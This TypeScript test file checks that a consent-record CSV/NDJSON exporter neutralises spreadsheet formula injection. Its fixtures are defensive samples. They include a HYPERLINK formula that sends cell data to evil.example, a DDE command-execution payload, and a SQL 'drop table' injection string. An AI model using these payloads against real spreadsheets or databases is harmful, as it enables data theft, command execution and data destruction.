/** What a spreadsheet makes of an export, and that nothing in it is taken for more than text. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { uuidv7 } from '../../src/proof/index.js';
import { columns } from '../../src/receiver/export/rows.js';
import { formats } from '../../src/receiver/export/formats.js';
import type { Content } from '../../src/receiver/rules/content.js';
import type { ConsentRecord } from '../../src/receiver/index.js';
import { readCsv } from './support/read-csv.js';
import { makeProof } from './support/proofs.js';

const FORMULA = /^[\s"\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;
const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\uFF1D1',
  '\uFEFF=1',
  '\0=1',
];
const SPREADSHEET = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  "=cmd|' /C calc'!A0",
  'x;=1',
  'x;"=1',
  'x\n=1',
];
const SQL = ["'; drop table records; --", '$1', '\\'];

function recordOf(content: Content | null, over: Partial<ConsentRecord> = {}): ConsentRecord {
  return {
    id: content?.id ?? uuidv7(),
    digest: `sha-256:${'a'.repeat(64)}`,
    receivedAt: '2026-11-21T22:00:00.000Z',
    assurance: 'unverified',
    position: 1,
    previous: null,
    subject: '+4915112345678',
    receipt: 'a.b.c',
    seal: 'd.e.f',
    content,
    ...over,
  };
}

function withdrawal(words: string): Content {
  return {
    type: 'whatsapp-opt-in/whatsapp-event',
    version: 1,
    id: uuidv7(),
    at: '2026-11-21T22:00:00.000Z',
    subject: { userId: 'DE.123' },
    act: 'withdrawal',
    origin: 'text',
    words,
    digest: `sha-256:${'a'.repeat(64)}`,
  };
}

/** A proof in which every text that a page or a person chooses is this one. */
function proofOf(text: string): Content {
  const { controller, notice, surface, choices } = makeProof();
  return makeProof({
    subject: { phone: '+4915112345678', reference: text },
    timeZone: text,
    controller: { ...controller, name: text },
    notice: { ...notice, version: text },
    surface,
    choices: choices.map((choice) => ({ ...choice, label: text, disclosure: text })),
  });
}

async function written(format: 'csv' | 'ndjson', ...records: ConsentRecord[]): Promise<string> {
  let text = '';
  for await (const part of formats[format].write(from(records))) text += part;
  return text;
}

async function* from(records: ConsentRecord[]): AsyncGenerator<ConsentRecord> {
  yield* records;
}

async function rowsOf(...records: ConsentRecord[]): Promise<Record<string, string>[]> {
  const [header, ...rows] = readCsv((await written('csv', ...records)).replace(/^\uFEFF/, ''));
  assert.deepEqual(header, columns);
  return rows.map((row) => Object.fromEntries(columns.map((name, index) => [name, row[index] ?? 'missing'])));
}

test('a proof is one row for each purpose, with what was shown and chosen', async () => {
  const proof = makeProof();
  const rows = await rowsOf(recordOf(proof));
  assert.deepEqual(
    rows.map(({ purpose, granted, decided_by, label }) => [purpose, granted, decided_by, label]),
    [
      ['marketing', 'false', 'default', 'Offers from Low Tide Coffee on WhatsApp'],
      ['service', 'true', 'person', 'Order updates from Low Tide Coffee on WhatsApp'],
    ],
  );
  for (const row of rows) {
    assert.equal(row['record_id'], proof.id);
    assert.equal(row['phone'], "'+4915112345678", 'a plus would begin a formula');
    assert.equal(row['notice_sha256'], proof.notice.sha256);
  }
});

test('a withdrawal on WhatsApp is a row that says of which purposes, and who, as far as that is known', async () => {
  const [row] = await rowsOf(recordOf(withdrawal('STOP')));
  assert.deepEqual(
    [row?.['kind'], row?.['act'], row?.['purpose'], row?.['granted'], row?.['words'], row?.['user_id']],
    ['whatsapp-event', 'withdrawal', 'all', 'false', 'STOP', 'DE.123'],
  );
});

test('what was erased shows its digests, and nobody', async () => {
  const record = recordOf(null, { subject: 'erased:019ac0de-0000-7000-8000-000000000000', position: 2 });
  const [row] = await rowsOf(record);
  const filled = Object.entries(row ?? {}).filter(([, cell]) => cell !== '');
  assert.deepEqual(Object.fromEntries(filled), {
    record_id: record.id,
    kind: 'erased',
    received_at: record.receivedAt,
    position: '2',
    digest: record.digest,
    assurance: 'unverified',
  });
});

test('the file begins with a byte order mark, ends each row with CR LF, and has its header when it is empty', async () => {
  assert.equal(await written('csv'), `\uFEFF${columns.join(',')}\r\n`);
  const text = await written('csv', recordOf(makeProof()));
  assert.equal(text.split('\r\n').length, 4);
  assert.equal(await written('ndjson'), '');
});

test('no cell begins a formula, whatever stands in it', async () => {
  const check = async (text: string) => {
    for (const row of await rowsOf(recordOf(proofOf(text)), recordOf(withdrawal(text)))) {
      for (const [name, cell] of Object.entries(row)) {
        assert.doesNotMatch(cell, FORMULA, name);
        assert.ok(!/^[\t\r]/.test(cell), name);
      }
    }
  };
  for (const text of [...FORMULAS, ...SPREADSHEET, ...SQL]) await check(text);
  const odd = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    ';',
    ',',
    '"',
    "'",
    ' ',
    '\uFF1D',
    'a',
    '\0',
  );
  await fc.assert(fc.asyncProperty(fc.string({ unit: odd, minLength: 1, maxLength: 12 }), check));
});

test('nor does a cell of a spreadsheet that divides at semicolons or tabs instead', async () => {
  for (const text of [...FORMULAS, ...SPREADSHEET, '";=1', ';;=1', ' ; "=1', 'a\t@1', 'a;\t \n+1']) {
    const file = await written('csv', recordOf(proofOf(text)), recordOf(withdrawal(text)));
    for (const cell of file.split(/[;\t\r\n]/)) assert.doesNotMatch(cell, FORMULA, JSON.stringify(text));
  }
});

test('every text comes back as it was, but for the apostrophes', async () => {
  const plain = fc.string({
    unit: fc.oneof(
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
      fc.constantFrom('\n', '\r', '\u2028', '"', ','),
    ),
    minLength: 1,
    maxLength: 40,
  });
  await fc.assert(
    fc.asyncProperty(plain, async (text) => {
      const [row] = await rowsOf(recordOf(withdrawal(text)));
      assert.equal(row?.['words']?.replaceAll("'", ''), text.replaceAll("'", ''));
    }),
  );
});

test('a text of nothing but line breaks is one cell', async () => {
  const text = '\n'.repeat(3999) + 'x';
  const [row] = await rowsOf(recordOf(withdrawal(text)));
  assert.equal(row?.['words'], text);
});

test('each line of NDJSON is one record, whatever breaks lines in it', async () => {
  const records = [...FORMULAS, '\n', '\u2028', '\r\n'].map((text) => recordOf(proofOf(text)));
  const lines = (await written('ndjson', ...records)).split('\n');
  assert.equal(lines.pop(), '');
  assert.deepEqual(
    lines.map((line) => JSON.parse(line).proof),
    records.map(({ content }) => content),
  );
});
